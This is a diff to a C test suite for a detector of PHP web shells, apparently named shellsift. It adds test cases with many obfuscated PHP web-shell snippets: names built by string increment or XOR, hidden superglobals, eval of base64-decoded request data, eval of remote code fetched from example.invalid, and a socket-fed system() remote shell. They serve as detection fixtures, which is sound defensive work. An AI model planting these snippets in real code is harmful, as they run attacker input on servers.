@@ -237,11 +237,11 @@ static void test_quiet_cases(void) {
 }
 
 static void test_bounds(void) {
-  char src[4096] = "<?php ";
-  /* eval(base64_decode(...)) nested deeper than the limit */
-  char inner[2048] = "echo 1;";
-  for (int i = 0; i < 5; i++) {
-    char enc[1500];
+  static char src[65536] = "<?php ";
+  /* eval(base64_decode(...)) nested deeper than the default limit (12) */
+  static char inner[60000] = "echo 1;";
+  for (int i = 0; i < 14; i++) {
+    static char enc[40000];
     size_t n = strlen(inner), o = 0;
     static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     for (size_t k = 0; k < n; k += 3) {
@@ -256,11 +256,49 @@ static void test_bounds(void) {
   strcat(src, inner);
   analyze("PHP", src);
   CHECK(res.limited && strcmp(res.limit_why, "decode depth limit") == 0);
-  lang_limits deep = {8, LANG_DEFAULT_DECODED, 0};
+  lang_limits deep = {16, LANG_DEFAULT_DECODED, 0};
   lang_ctx *c8 = lang_ctx_new(&deep);
   lang_analyze(c8, (const unsigned char *)src, strlen(src), "PHP", &res);
   CHECK(!res.limited && res.ndet == 1 && strcmp(res.det[0].rule, "shellsift.lang.decoded-payload") == 0);
   lang_ctx_free(c8);
+}
+
+/* PHP folding and flow: what each new step must read, and what must stay quiet. */
+static void test_php_fold_and_flow(void) {
+  const lang_detection *d;
+  /* 'Zz'++ is 'AAa' (PHP's string increment), proved by the name it unlocks */
+  d = analyze("PHP", "<?php $t = 'Zz'; $t++; $f = str_replace('AAa', 'system', 'AAa'); $f($_GET['c']);");
+  CHECK(d && strstr(d->description, "reaches system()"));
+  /* an array's text is "Array"; its first letter, stepped, spells a name */
+  d = analyze("PHP", "<?php $_ = []; $_ = \"$_\"; $a = $_[0]; $a++; $f = $a . 'ase64_decode'; "
+                     "eval($f($_POST['x']));");
+  CHECK(d && strstr(d->description, "reaches eval() after base64_decode"));
+  /* constant comparisons: true is 1 */
+  d = analyze("PHP", "<?php $a = array('eval', 'system'); $f = $a[('b' > 'a')]; $f($_GET['c']);");
+  CHECK(d && strstr(d->description, "system()"));
+  d = analyze("PHP", "<?php $a = array('system', 'eval'); $f = $a['!' == '@']; $f($_GET['c']);");
+  CHECK(d && strstr(d->description, "system()"));
+  /* a double-quoted string of constant variables is a constant */
+  d = analyze("PHP", "<?php $v = '$_GET'; eval(\"system({$v}['c']);\");");
+  CHECK(d && strstr(d->description, "reaches system()"));
+  /* ${'_' . $x}: a superglobal chosen at run time */
+  d = analyze("PHP", "<?php ${'_' . $k}['f'](${'_' . $k}['a']);");
+  CHECK(d && strstr(d->description, "is called as a function"));
+  /* flow: a variable holds input only from where it is assigned on */
+  CHECK(!analyze("PHP", "<?php $x = $_GET['a']; $x = 'uptime'; system($x);"));
+  CHECK(!analyze("PHP", "<?php function f() { $c = 'id'; system($c); $c = $_GET['x']; echo $c; }"));
+  /* what a socket received, run: a remote shell */
+  d = analyze("PHP", "<?php $s = fsockopen('192.0.2.1', 80); $c = fgets($s); system($c);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.reverse-shell") == 0 && strstr(d->description, "fgets()"));
+  CHECK(!analyze("PHP", "<?php $h = fopen('list.txt', 'r'); $c = fgets($h); echo $c;"));
+  /* a callable with the application's own prefix is not chosen by the request; one a sink starts is */
+  CHECK(!analyze("PHP", "<?php call_user_func('show_' . $_GET['p']);"));
+  d = analyze("PHP", "<?php call_user_func('sys' . $_GET['p'], $_GET['c']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.callback") == 0);
+  /* written, then loaded */
+  d = analyze("PHP", "<?php file_put_contents('t.txt', $_POST['c']); require 't.txt';");
+  CHECK(d && strstr(d->description, "run as code by require"));
+  CHECK(!analyze("PHP", "<?php file_put_contents('t.txt', $_POST['c']); require 'other.php';"));
 }
 
 static void test_prefilter_and_stats(void) {
@@ -268,7 +306,27 @@ static void test_prefilter_and_stats(void) {
   CHECK(!lang_prefilter((const unsigned char *)lib, strlen(lib), 1));
   CHECK(lang_prefilter((const unsigned char *)"<?php $_GET;", 12, 1));
   CHECK(lang_prefilter((const unsigned char *)"<?php EVAL(STR_ROT13('x'));", 27, 1));
-  CHECK(!lang_prefilter((const unsigned char *)"<?php eval('x');", 16, 1));
+  /* eval of a literal: read in a small file (it may be assembled code), not in a big one without a blob */
+  CHECK(lang_prefilter((const unsigned char *)"<?php eval('x');", 16, 1));
+  char big[9000];
+  memset(big, ' ', sizeof big);
+  memcpy(big, "<?php eval('x');", 16);
+  CHECK(!lang_prefilter((const unsigned char *)big, sizeof big, 1));
+  /* hidden request sources and sinks that name no superglobal */
+  static const char *const hidden[] = {
+      "<?php $k(${'_PO'.'ST'}['a']);", "<?php $x = ${$n};", "<?php eval($GLOBALS['_POST']['a']);",
+      "<?php $r = $_SERVER; echo $r['HTTP_X'];", "<?php echo $_SERVER['QUERY_STRING'];",
+      "<?php $u = $a('', $q); $u();", "<?php $f = create_function('', $b);",
+      "<?php fputs(fopen('a.php', 'w'), base64_decode('PD9waHAg'));",
+      "<?php eval(file_get_contents('http://example.invalid/x'));", "<?php $/*x*/{'_GET'}['a'];",
+      "<?php ${('!' ^ '~')}();", "<?php file_put_contents('x', \"\\x7fELF\\x02\");"};
+  for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++)
+    CHECK(lang_prefilter((const unsigned char *)hidden[i], strlen(hidden[i]), 1));
+  /* what library code has plenty of and no shell needs alone */
+  static const char *const quiet[] = {"<?php echo $_SERVER['SCRIPT_NAME'];", "<?php $this->x = $GLOBALS['config'];",
+                                      "<?php $s = \"${a}\";"};
+  for (size_t i = 0; i < sizeof quiet / sizeof quiet[0]; i++)
+    CHECK(!lang_prefilter((const unsigned char *)quiet[i], strlen(quiet[i]), 1));
   CHECK(lang_prefilter((const unsigned char *)"<% x = REQUEST(1) %>", 20, 0));
   char blob[200];
   for (int i = 0; i < 199; i++) blob[i] = "Ab3+/9Zq"[i % 8];
@@ -310,6 +368,7 @@ int main(void) {
   RUN(test_asp_family);
   RUN(test_source_to_sink);
   RUN(test_quiet_cases);
+  RUN(test_php_fold_and_flow);
   RUN(test_bounds);
   RUN(test_prefilter_and_stats);
   RUN(test_combined_score);
